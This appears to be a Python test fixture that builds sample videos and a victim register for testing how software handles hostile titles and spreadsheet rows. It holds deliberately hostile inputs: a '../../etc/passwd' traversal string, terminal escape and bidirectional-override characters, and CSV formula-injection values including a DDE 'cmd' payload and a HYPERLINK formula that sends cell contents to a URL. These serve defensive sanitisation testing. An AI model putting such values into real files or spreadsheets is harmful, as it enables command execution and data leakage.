"""The films, titles and register of the tests of the whole way: short, and made on the spot."""

from dataclasses import replace
from pathlib import Path

from tests.world.channel import Video
from tests.world.media import Spoken, Track, film
from tests.world.samples import sample_video

HOSTILE = {
    "traversal": "../../etc/passwd " + "long " * 60,
    "raw": ".hidden \u202e4pm.exe\ntwo lines \x1b[31mand red\x1b[0m \x9b31m \u2066",
}
RAW = ("\x1b", "\u202e", "\x9b", "\u2066")
FAULTY = {"gone": "gone", "cut": "passing", "false": "damaged"}
WORDS = "My name is Rosa Lindenbrook. My brother is entry one hundred and fifty three. His name is Karim Lindenbrook."
CAPTIONS = "WEBVTT\n\n00:00.000 --> 00:04.000\nMy name is Rosa Lindenbrook.\n"
_PAINT = {name: f"0x{11 * n:02x}c0{30 + 9 * n:02x}" for n, name in enumerate(("spoken", "doubled", "silent"))}
"""What no title should get away with; `RAW` are the marks that must not reach a terminal."""

GARBAGE: tuple[dict[str, str], ...] = (
    {
        "Entry": "901",
        "Victim's Name": '=HYPERLINK("https://example.org/?"&A1,"Karim")',
        "Chinese name": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {
        "Entry": "902",
        "Victim's Name": "+1+cmd",
        "About the Victim": "\x1b[31mred\x1b[0m \u202eback\u202c" + "x" * 200_000,
    },
    {"Entry": "not a number", "Victim's Name": "Nobody Atall"},
    {"Entry": "153", "Victim's Name": "A Second Number"},
    {"Entry": "903", "Victim's Name": "", "Chinese name": ""},
)


def quiet(films: Path, number: int) -> Video:
    """A short video in which nobody speaks; no two numbers have the same bytes."""
    silence = film(films, Track(seconds=1.5), picture=f"0x{number:02x}5080")
    return Video(f"Quiet {number}", silence, key=f"quiet-{number}")


def sample_channel(films: Path) -> dict[str, Video]:
    """A channel of few short videos by key: spoken, with two tracks, silent, with hostile titles, and faulty ones."""
    english = Spoken("en-us", "On this sound track I speak English. My brother is a baker.")
    russian = Spoken("ru", "На этой звуковой дорожке я говорю по-русски. Мой брат пекарь.")
    spoken = Video(
        "Rosa Lindenbrook speaks for her brother",
        film(films, Track((Spoken("en-us", WORDS),), "eng"), picture=_PAINT["spoken"]),
        description="About Karim Lindenbrook, entry 153.",
        tags=("testimony",),
        captions={"en": CAPTIONS},
        key="spoken",
    )
    tracks = (Track((english,), "eng"), Track((russian,), "rus"))
    doubled = Video("Two sound tracks", film(films, *tracks, picture=_PAINT["doubled"]), key="doubled")
    silent = Video("A silent vigil", film(films, Track(seconds=3), picture=_PAINT["silent"]), key="silent")
    found = {"spoken": spoken, "doubled": doubled, "silent": silent}
    for number, (key, title) in enumerate(HOSTILE.items(), 100):
        found[key] = replace(quiet(films, number), title=title, key=key)
    return found | {key: sample_video(films, key) for key in FAULTY}
